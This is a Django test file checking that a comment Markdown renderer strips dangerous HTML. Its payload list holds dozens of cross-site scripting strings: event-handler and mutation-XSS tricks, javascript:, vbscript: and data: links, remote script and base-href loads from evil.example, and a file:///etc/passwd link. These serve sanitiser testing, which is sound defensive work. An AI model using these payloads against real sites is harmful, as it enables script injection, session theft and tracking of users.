"""A comment's HTML is safe to show as it is, whatever its author typed."""

import re
from html.parser import HTMLParser

from django.test import SimpleTestCase

from comments.markdown import ATTRIBUTES, SCHEMES, TAGS, to_html

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<style>@import 'javascript:alert(1)'</style>",
    "<base href='//evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[><script>alert(1)</script>]]>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#x09;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    '[x](https://a.example "onmouseover=alert(1)")',
    '[x](https://a.example "\\" onmouseover=alert(1) x=\\"")',
    "[x](https://a.example'onmouseover='alert(1))",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "<<script>script>alert(1)<</script>/script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<a\x00 href='javascript:alert(1)'>",
    "\u2028<script>alert(1)</script>\u2029",
    "<x-y is=z onclick=alert(1)>",
    "<p style='background:url(javascript:alert(1))'>x",
    "<p class=admin id=app>x",
]


class Inspector(HTMLParser):
    """Collects every tag, and every attribute with its value, as a browser's parser would see them."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, {name: value or "" for name, value in attrs}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    """The tags of the HTML with their attributes."""
    inspector = Inspector()
    inspector.feed(html)
    inspector.close()
    return inspector.seen


class Sanitising(SimpleTestCase):
    def test_no_payload_gets_through(self) -> None:
        for payload in PAYLOADS:
            with self.subTest(payload):
                for tag, attributes in elements(to_html(payload)):
                    self.assertIn(tag, TAGS)
                    self.assertLessEqual(set(attributes), ATTRIBUTES.get(tag, set()) | {"rel"})
                    scheme = re.match(r"\s*([a-z][a-z0-9+.-]*):", attributes.get("href", "https:"), re.IGNORECASE)
                    self.assertTrue(scheme is None or scheme[1].lower() in SCHEMES, attributes)

    def test_what_people_write_is_rendered(self) -> None:
        for body, html in (
            ("**bold** and *it*", "<p><strong>bold</strong> and <em>it</em></p>\n"),
            ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
            ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>\n"),
            ("`rm -rf`", "<p><code>rm -rf</code></p>\n"),
            ("~~no~~", "<p><s>no</s></p>\n"),
            (
                "[x](https://a.example)",
                '<p><a href="https://a.example" rel="nofollow noopener noreferrer">x</a></p>\n',
            ),
            ("a < b & c", "<p>a &lt; b &amp; c</p>\n"),
            ("<b>raw</b>", "<p>&lt;b&gt;raw&lt;/b&gt;</p>\n"),
            ("", ""),
        ):
            with self.subTest(body):
                self.assertEqual(to_html(body), html)

    def test_a_body_of_brackets_is_shown_as_it_was_typed(self) -> None:
        body = "[" * 9_000 + "<script>"
        self.assertEqual(to_html(body), f"<pre>{'[' * 9_000}&lt;script&gt;</pre>")

    def test_deep_nesting_ends(self) -> None:
        for body in (">" * 10_000, "[" * 10_000, "*" * 10_000, "- " * 5_000, "`" * 10_000):
            with self.subTest(body[:2]):
                self.assertIsInstance(to_html(body), str)
